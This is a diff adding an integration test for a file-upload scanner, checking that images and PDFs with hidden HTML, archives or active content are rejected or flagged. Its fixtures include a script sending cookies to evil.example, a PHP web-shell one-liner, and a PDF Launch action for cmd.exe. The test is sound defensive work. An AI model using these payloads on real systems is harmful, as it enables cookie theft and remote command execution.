@@ -1,0 +1,181 @@
+// Files that are more than they look like, and good ones that look odd, by link to a real storage, past a real scanner.
+import { DOCUMENT_FINDINGS, type DocumentFinding } from '@onboarding/contract';
+import { afterAll, beforeAll, expect, test } from 'vitest';
+import { freePort } from '../../scripts/free-port.ts';
+import { validBody } from '../harness/bodies.ts';
+import { cloneDatabase, type TestDatabase, type TestPartner } from '../harness/database.ts';
+import { jpegOf, objectStreamOf, pdfOf, pdfWith, pngChunk, pngOf, zipOf } from '../harness/files.ts';
+import { insistOn } from '../harness/insist.ts';
+import { EVENTS_SECRET, storageEnvironment } from '../harness/no-storage.ts';
+import { until } from '../harness/patience.ts';
+import { type RunningApi, type RunningIssuer, runApi, runIssuer } from '../harness/process.ts';
+import { startScanner, startStorage, type TestScanner, type TestStorage } from '../harness/servers/storage.ts';
+import { type RunningWorker, runWorker } from '../harness/worker.ts';
+
+let database: TestDatabase;
+let issuer: RunningIssuer;
+let storage: TestStorage;
+let scanner: TestScanner;
+let api: RunningApi;
+let worker: RunningWorker;
+let partner: TestPartner;
+
+beforeAll(async () => {
+  const port = await freePort();
+  [database, issuer, storage, scanner] = await Promise.all([
+    cloneDatabase(),
+    runIssuer(),
+    startStorage(`http://127.0.0.1:${port}/api/storage/v1/events?token=${EVENTS_SECRET}`),
+    startScanner(),
+  ]);
+  partner = await database.addPartner();
+  const environment = { ...storageEnvironment(storage.options), STORAGE_EVENTS_SECRET: EVENTS_SECRET };
+  api = await runApi({ databaseUrl: database.appUrl, issuerUrl: issuer.url, port, environment });
+  worker = await runWorker({
+    database,
+    smtpUrl: 'smtp://127.0.0.1:1',
+    environment: {
+      ...storageEnvironment(storage.options),
+      WORKER_ROLES: 'documents,reviews',
+      CLAMD_HOST: scanner.host,
+      CLAMD_PORT: String(scanner.port),
+    },
+  });
+});
+afterAll(async () => {
+  await Promise.all([api?.kill(), worker?.kill()]);
+  await Promise.all([storage?.close(), scanner?.close(), issuer?.close()]);
+  await database?.close();
+});
+
+async function call(method: string, path: string, body?: unknown) {
+  const answer = await insistOn(async () =>
+    fetch(`${api.url}/api/partner/v1/business-profiles${path}`, {
+      method,
+      headers: { authorization: `Bearer ${await issuer.issuer.token(partner)}`, 'content-type': 'application/json' },
+      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+    }),
+  );
+  return (await answer.json()) as { value: Record<string, string> };
+}
+
+interface Sent {
+  customerId: string;
+  documentId: string;
+}
+
+type Type = 'application/pdf' | 'image/jpeg' | 'image/png';
+
+async function send(contentType: Type, bytes: Buffer): Promise<Sent> {
+  const { customerId = '' } = (await call('POST', '', validBody())).value;
+  const asked = { documentCategory: 'TaxCertificate', contentType };
+  const { documentId = '', uploadUrl = '' } = (await call('POST', `/${customerId}/documents/upload-link`, asked)).value;
+  const headers = { 'content-type': contentType };
+  const stored = await fetch(uploadUrl, { method: 'PUT', headers, body: new Uint8Array(bytes) });
+  expect(stored.status).toBe(200);
+  return { customerId, documentId };
+}
+
+async function outcomeOf({ documentId }: Sent): Promise<string> {
+  let outcome = '';
+  await until(async () => {
+    const { rows } = await database.owner.query('select status, refusal from documents where document_id = $1', [
+      documentId,
+    ]);
+    outcome = [rows[0].status, rows[0].refusal].filter(Boolean).join(' ');
+    return !['LinkIssued', 'Uploaded'].includes(rows[0].status);
+  }, 'the document has its outcome');
+  return outcome;
+}
+
+/** What each of the files comes to. */
+async function outcomesOf(files: Record<string, [Type, Buffer]>): Promise<Record<string, string>> {
+  const sent = await Promise.all(
+    Object.entries(files).map(async ([what, [type, bytes]]) => [what, await send(type, bytes)] as const),
+  );
+  const outcomes: [string, string][] = [];
+  for (const [what, one] of sent) outcomes.push([what, await outcomeOf(one)]);
+  return Object.fromEntries(outcomes);
+}
+const all = (files: object, outcome: string) => Object.fromEntries(Object.keys(files).map((what) => [what, outcome]));
+
+const joined = (...parts: (Buffer | string)[]) =>
+  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
+const [PDF, JPEG, PNG] = ['application/pdf', 'image/jpeg', 'image/png'] as const;
+const PAGE = '<html><body><script>fetch("//evil.example/"+document.cookie)</script></body></html>';
+const XMP = '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF><rdf:Description/></rdf:RDF></x:xmpmeta>';
+const segment = (code: number, content: Buffer) =>
+  joined(Buffer.from([0xff, code, (content.length + 2) >> 8, (content.length + 2) & 255]), content);
+/** With something behind the first KiB. */
+const jpegWith = (...segments: Buffer[]) =>
+  joined(jpegOf().subarray(0, 20), segment(0xe2, Buffer.alloc(2_000, 3)), ...segments, jpegOf().subarray(20));
+const pngWith = (...chunks: Buffer[]) =>
+  joined(pngOf().subarray(0, 33), pngChunk('tEXt', Buffer.alloc(2_000, 0x61)), ...chunks, pngOf().subarray(33));
+
+test('good files with a byte too many, or a description, are confirmed', async () => {
+  const files: Record<string, [Type, Buffer]> = {
+    'a byte behind the end of a document': [PDF, joined(pdfOf('hello'), '\x1a')],
+    'a line end behind the end of a document': [PDF, joined(pdfOf('hello'), '\r\n\n')],
+    'a letter behind the end of a document': [PDF, joined(pdfOf('hello'), 'x')],
+    'junk before a document': [PDF, joined('HTTP/1.1 200 OK\r\n\r\n', pdfOf('hello'))],
+    'a document that begins at the end of its first KiB': [PDF, joined('\n'.repeat(1_019), pdfOf('hello'))],
+    'a photograph with its description in XML': [JPEG, jpegWith(segment(0xe1, Buffer.from(`xap\0${XMP}`)))],
+    'a photograph with a second one behind it': [JPEG, joined(jpegOf(), jpegOf())],
+    'a picture with its description in XML': [PNG, pngWith(pngChunk('iTXt', Buffer.from(`XML\0\0\0\0\0${XMP}`)))],
+  };
+  expect(await outcomesOf(files)).toEqual(all(files, 'Confirmed'));
+});
+
+test('a page or an archive in a picture is rejected, however far behind its beginning', async () => {
+  const files: Record<string, [Type, Buffer]> = {
+    'a page in a remark of a photograph': [JPEG, jpegWith(segment(0xfe, Buffer.from(PAGE)))],
+    'a page in the scan of a photograph': [
+      JPEG,
+      joined(jpegOf().subarray(0, -2), Buffer.alloc(2_000, 7), PAGE, '\xff\xd9'),
+    ],
+    'a page behind a photograph': [JPEG, joined(jpegOf(), Buffer.alloc(2_000), PAGE, '\xff\xd9')],
+    'an archive behind a photograph': [
+      JPEG,
+      joined(jpegOf(), zipOf('a', Buffer.from('a')), Buffer.alloc(70_000, 1), '\xff\xd9'),
+    ],
+    'a document behind a photograph': [JPEG, joined(jpegOf(), pdfOf('hello'), '\xff\xd9')],
+    'a page in a remark of a picture': [PNG, pngWith(pngChunk('tEXt', Buffer.from(`Comment\0${PAGE}`)))],
+    'a page in two-byte letters in a picture': [PNG, pngWith(pngChunk('tEXt', Buffer.from(PAGE, 'utf16le')))],
+    'a program of a server in a picture': [PNG, pngWith(pngChunk('tEXt', Buffer.from('<?php system($_GET[0]); ?>')))],
+    'a page behind a picture': [PNG, joined(pngOf(), PAGE, pngOf().subarray(-12))],
+    'a page before a document': [PDF, joined('<html><body>', pdfOf('hello'))],
+    'a page behind a document': [PDF, joined(pdfOf('hello'), PAGE)],
+  };
+  expect(await outcomesOf(files)).toEqual(all(files, 'Rejected ContentMismatch'));
+});
+
+// Escaped names are left out: this scanner takes them for an infection by themselves.
+test('a document that can do more than be read is confirmed, and analysts are told what', async () => {
+  const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
+  const files: [DocumentFinding, Buffer][] = [
+    ['JavaScript', pdfWith(`9 0 obj${script}endobj`)],
+    ['JavaScript', pdfWith(objectStreamOf(script))],
+    ['Launch', pdfWith('9 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
+    ['EmbeddedFile', pdfWith('9 0 obj<</Type/EmbeddedFile/Length 5>>stream\nhello\nendstream endobj')],
+    ['Xfa', pdfWith('9 0 obj<</AcroForm<</XFA[(template) 8 0 R]>>>>endobj')],
+    ['Encrypted', pdfWith('trailer<</Root 1 0 R/Encrypt 9 0 R>>')],
+    ['Unchecked', pdfWith('9 0 obj<</Type/ObjStm/N 1/First 4/Filter/LZWDecode>>stream\nxx\nendstream endobj')],
+  ];
+  const sent = await Promise.all(files.map(([, bytes]) => send(PDF, bytes)));
+  for (const [index, { customerId, documentId }] of sent.entries()) {
+    expect(await outcomeOf({ customerId, documentId })).toBe('Confirmed');
+    let flags: { code: string; facts: unknown }[] = [];
+    await until(async () => {
+      const { rows } = await database.owner.query('select flags from reviews where customer_id = $1', [customerId]);
+      flags = rows[0].flags;
+      return flags.some(({ code }) => code === 'ActiveContent');
+    }, `the package is flagged for ${files[index]?.[0]}`);
+    expect(flags.find(({ code }) => code === 'ActiveContent')?.facts).toEqual({
+      documents: [{ documentId, findings: [files[index]?.[0]] }],
+      more: false,
+    });
+    // The partner is not told.
+    const record = JSON.stringify((await call('GET', `/${customerId}`)).value);
+    expect([...DOCUMENT_FINDINGS, 'findings', 'ActiveContent'].filter((word) => record.includes(word))).toEqual([]);
+  }
+});
